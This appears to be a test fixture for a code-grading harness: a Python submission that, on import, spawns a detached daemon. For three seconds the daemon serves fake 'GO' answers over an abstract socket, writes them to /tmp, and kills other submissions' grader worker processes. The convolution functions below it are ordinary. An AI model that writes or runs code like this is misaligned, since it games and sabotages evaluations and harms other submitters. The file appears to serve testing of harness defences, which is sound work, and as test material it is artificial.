# expect: score=16
# Leaves a detached process (double fork, setsid, its leader a zombie) that for 3 s serves
# "answers" on an abstract socket, writes them to /tmp and kills every grading worker process
# it may signal (the next submissions).
import os
import signal
import socket
import time

import numpy as np


def _daemon():
    os.setsid()
    if os.fork():
        os._exit(0)  # the session leader exits: the daemon is re-parented
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in range(0, 256):
        if fd != devnull:
            try:
                os.close(fd)
            except OSError:
                pass
    try:
        srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        srv.bind("\0grader-x-daemon")
        srv.listen(8)
        srv.setblocking(False)
    except OSError:
        srv = None
    end = time.monotonic() + 3.0
    while time.monotonic() < end:
        try:
            with open("/tmp/grader-x-answers", "w") as fh:
                fh.write("GO")
        except OSError:
            pass
        if srv is not None:
            try:
                conn, _ = srv.accept()
                conn.sendall(b"GO")
                conn.close()
            except OSError:
                pass
        for name in os.listdir("/proc"):  # only grading workers: safe without a sandbox
            try:
                with open(f"/proc/{name}/cmdline", "rb") as fh:
                    if b"worker.py" in fh.read() and int(name) not in (os.getpid(), MAIN):
                        os.kill(int(name), signal.SIGKILL)
            except (OSError, ValueError):
                pass
        time.sleep(0.01)
    os._exit(0)


MAIN = os.getpid()  # its own submission process is spared: the target is the next one
if os.fork() == 0:
    try:
        _daemon()
    finally:
        os._exit(0)
time.sleep(0.05)


def convolve(image, kernel):
    kh, kw = kernel.shape
    out = np.zeros((image.shape[0] - kh + 1, image.shape[1] - kw + 1))
    for i in range(out.shape[0]):
        for j in range(out.shape[1]):
            out[i, j] = np.sum(image[i : i + kh, j : j + kw] * kernel)
    return out


def convolve1d(signal, kernel):
    k = len(kernel)
    out = np.zeros(len(signal) - k + 1)
    for i in range(len(out)):
        out[i] = np.sum(signal[i : i + k] * kernel)
    return out
